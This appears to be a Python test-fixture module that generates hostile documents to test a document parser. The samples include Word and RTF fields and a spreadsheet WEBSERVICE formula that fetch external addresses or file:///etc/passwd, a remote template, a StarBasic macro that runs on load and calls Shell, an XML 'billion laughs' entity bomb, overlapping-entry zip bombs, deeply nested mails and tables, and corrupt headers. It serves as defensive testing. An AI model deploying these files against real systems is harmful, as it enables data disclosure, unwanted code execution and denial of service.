"""Office files, mails and archives made to harm: macros, links to other files and addresses, bombs, nests, lies."""

import base64
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.formats import making
from tests.formats.outlook_file import msg, write
from tests.hostile.packed import CALLS, archive
from tests.hostile.parts import MIB

SECRET = "file:///etc/passwd"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word_with_a_field_that_calls() -> bytes:
    field = (
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;{}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )
    return making.docx(body=field.format(CALLS, SECRET))


def word_with_a_template_elsewhere() -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="{CALLS}/sjabloon.dotm" TargetMode="External"/></Relationships>'
    )
    settings = f'<?xml version="1.0"?><w:settings xmlns:w="{_W}"><w:attachedTemplate w:id="r1"/></w:settings>'
    return making.docx(more={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations})


def word_with_a_bomb() -> bytes:
    return making.docx(lines=["x" * 1000] * 60_000)


def word_of_nested_tables() -> bytes:
    cell = "<w:tbl><w:tr><w:tc>"
    end = "<w:p/></w:tc></w:tr></w:tbl>"
    return making.docx(body=cell * 3000 + end * 3000)


def word_cut_off() -> bytes:
    return making.docx()[:-200]


def word_that_is_not() -> bytes:
    return making.docx(body="<w:p><w:r><w:t>nooit dicht")


def open_text_with_a_macro() -> bytes:
    """Its macro is to run when it is opened: a whole library of them, as LibreOffice writes it."""
    module = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
        f'script:language="StarBasic">Sub Main\nShell("touch /tmp/hostile-macro")\nOpen "{CALLS}" For Input As #1'
        "\nEnd Sub</script:module>"
    )
    space = 'xmlns:library="http://openoffice.org/2000/library"'
    library = (
        f'<?xml version="1.0"?><library:library {space} library:name="Standard" library:readonly="false" '
        'library:passwordprotected="false"><library:element library:name="M"/></library:library>'
    )
    libraries = (
        f'<?xml version="1.0"?><library:libraries {space} xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<library:library library:name="Standard" library:link="false"/></library:libraries>'
    )
    events = (
        '<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;'
        'location=document"/></office:event-listeners>'
    )
    plain = making.odf("text", "<text:p>Macro.</text:p>")
    with zipfile.ZipFile(BytesIO(plain)) as file:
        entries = {x: file.read(x).decode() for x in file.namelist()}
    more = {
        "Basic/Standard/M.xml": module, "Basic/Standard/script-lb.xml": library, "Basic/script-lc.xml": libraries,
    }  # fmt: skip
    listed = "".join(f'<manifest:file-entry manifest:full-path="{x}" manifest:media-type="text/xml"/>' for x in more)
    end = "</manifest:manifest>"
    entries["META-INF/manifest.xml"] = entries["META-INF/manifest.xml"].replace(end, listed + end)
    body = "<office:body>"
    entries["content.xml"] = entries["content.xml"].replace(body, f"<office:scripts>{events}</office:scripts>{body}")
    return archive({**entries, **more})


def open_text_that_fetches() -> bytes:
    section = (
        '<text:section text:name="s"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xlink:href="{}" text:filter-name="Text"/><text:p>x</text:p></text:section>'
    )
    return making.odf("text", section.format(SECRET) + section.format(CALLS))


def open_text_that_laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol">{entities}]><l>&a9;</l>',
            "META-INF/manifest.xml": "<manifest/>",
        }
    )


def sheet_that_calls() -> bytes:
    cell = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;{}&quot;)" office:value-type="string"/>'
    row = f"<table:table-row>{cell.format(CALLS)}{cell.format(SECRET)}</table:table-row>"
    return making.odf("spreadsheet", f'<table:table table:name="a">{row}</table:table>')


def sheet_of_a_million_rows() -> bytes:
    row = (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" '
        'table:number-columns-repeated="1000"><text:p>x</text:p></table:table-cell></table:table-row>'
    )
    return making.odf("spreadsheet", f'<table:table table:name="a">{row}</table:table>')


def rich_text_that_calls() -> bytes:
    return (
        b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "' + CALLS.encode() + b'" \\\\d}}'
        b'{\\field{\\*\\fldinst INCLUDETEXT "' + SECRET.encode() + b'"}}tekst}'
    )


def rich_text_without_end() -> bytes:
    return b"{\\rtf1 " + b"{\\b " * 500_000


def rich_text_with_a_bomb() -> bytes:
    return b"{\\rtf1 {\\pict\\pngblip\\picw99999\\pich99999 " + b"00" * (4 * MIB) + b"}}"


def old_word_of_noise() -> bytes:
    return write({"WordDocument": struct.pack("<HH", 0xA5EC, 0xC1) + b"\xff" * 9000, "1Table": b"\xff" * 9000})


def old_sheet_of_noise() -> bytes:
    return write({"Workbook": b"\x09\x08\x10\x00" + bytes(16) + b"\xfc\x00\xff\x1f" + b"\xff" * 8000})


def old_show_of_noise() -> bytes:
    return write({"PowerPoint Document": b"\x0f\x00\xe8\x03\xff\xff\xff\x7f" * 900, "Current User": b"\0" * 30})


def locked_word() -> bytes:
    return write({"EncryptedPackage": b"\0" * 5000, "EncryptionInfo": b"\4\0\4\0"})


def ole_in_a_ring() -> bytes:
    """Its table of sectors leads back to itself."""
    data = bytearray(write({"WordDocument": b"x" * 20_000}))
    at = 512 * (1 + struct.unpack_from("<I", data, 76)[0])
    for place in range(at, at + 120, 4):
        data[place : place + 4] = struct.pack("<I", 0)
    return bytes(data)


def mail_in_mail_in_mail() -> bytes:
    inner = making.mail(files=[("diep.pdf", "application/pdf", making.letter())])
    for _ in range(12):
        inner = making.mail(files=[("mail.eml", "application/octet-stream", inner)])
    return inner


def mail_that_says_nothing_true() -> bytes:
    head = b"From: =?utf-99?q?=ff?= <\xff@x>\nSubject: =?utf-8?b?////?=\nDate: gisteren\nMIME-Version: 9\n"
    kind = b'Content-Type: multipart/mixed; boundary="' + b"x" * 500 + b'"\nContent-Transfer-Encoding: niets\n\n'
    part = (
        b"\n--" + b"x" * 500 + b"\nContent-Type: text/html; charset=bestaat-niet\nContent-Transfer-Encoding: base64\n\n"
    )
    return head + kind + part + b"====" + base64.b64encode(b"<p>" * 9999)[:-3]


def mail_of_deep_parts() -> bytes:
    head = "From: a@x.example\nSubject: diep\nMIME-Version: 1.0\n"
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(3000))
    return f"{head}{parts}Content-Type: text/plain\n\nx\n".encode()


def mail_with_a_page_that_calls() -> bytes:
    page = f'<img src="{CALLS}"><iframe src="{SECRET}"></iframe><link rel="stylesheet" href="{CALLS}"><p>tekst</p>'
    return making.mail(html=page * 20)


def outlook_pack_that_lies() -> bytes:
    pack = bytearray(making.tnef("a.pdf", making.letter()))
    pack[-len(making.letter()) - 6 : -len(making.letter()) - 2] = b"\xff\xff\xff\x7f"
    return making.mail(files=[("winmail.dat", "application/ms-tnef", bytes(pack))])


def outlook_cut_off() -> bytes:
    return msg("Half", "tekst " * 900, {"a.pdf": making.letter()})[:3000]


def page_without_end() -> bytes:
    return b"<html><body>" + b"<div><table><tr><td>" * 200_000 + b"tekst"


def page_of_one_word() -> bytes:
    return b"<html><body>" + b"x" * (6 * MIB)


def text_of_zeros() -> bytes:
    return b"tekst\n" + b"\0" * MIB


def text_without_end() -> bytes:
    return b"regel\n" * 3_000_000


def archive_of_overlapping_files() -> bytes:
    """Every entry of the list is the same bytes: a few kilobytes become gigabytes."""
    data = archive({"a.txt": b"\0" * 4 * MIB})
    first = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[first:end]
    many = entry * 400
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 400, 400, len(many), first, 0)
    return data[:first] + many + tail


def archive_of_a_thousand() -> bytes:
    return archive({f"{n}.txt": f"notitie {n} over het lezen van deze week" for n in range(1000)})


def archive_that_promises_less() -> bytes:
    data = bytearray(archive({"a.txt": b"x" * MIB}))
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def archive_of_everything() -> bytes:
    return archive(
        {f"{n:02d} {name}": make() for n, (name, make) in enumerate(OFFICE.items()) if "archief" not in name}
    )


OFFICE: dict[str, Callable[[], bytes]] = {
    "veld belt.docx": word_with_a_field_that_calls,
    "sjabloon elders.docx": word_with_a_template_elsewhere,
    "bom.docx": word_with_a_bomb,
    "tabel in tabel.docx": word_of_nested_tables,
    "half.docx": word_cut_off,
    "nooit dicht.docx": word_that_is_not,
    "macro.odt": open_text_with_a_macro,
    "haalt op.odt": open_text_that_fetches,
    "lacht.odt": open_text_that_laughs,
    "belt.ods": sheet_that_calls,
    "miljoen rijen.ods": sheet_of_a_million_rows,
    "belt.rtf": rich_text_that_calls,
    "zonder eind.rtf": rich_text_without_end,
    "bom.rtf": rich_text_with_a_bomb,
    "ruis.doc": old_word_of_noise,
    "ruis.xls": old_sheet_of_noise,
    "ruis.ppt": old_show_of_noise,
    "dicht.docx": locked_word,
    "ring.doc": ole_in_a_ring,
    "mail in mail.eml": mail_in_mail_in_mail,
    "niets waar.eml": mail_that_says_nothing_true,
    "diepe delen.eml": mail_of_deep_parts,
    "mail belt.eml": mail_with_a_page_that_calls,
    "pakket liegt.eml": outlook_pack_that_lies,
    "half.msg": outlook_cut_off,
    "zonder eind.html": page_without_end,
    "een woord.html": page_of_one_word,
    "nullen.txt": text_of_zeros,
    "zonder eind.txt": text_without_end,
    "archief over elkaar.zip": archive_of_overlapping_files,
    "archief van duizend.zip": archive_of_a_thousand,
    "archief belooft minder.zip": archive_that_promises_less,
    "archief van alles.zip": archive_of_everything,
}
"""Each by its file name."""
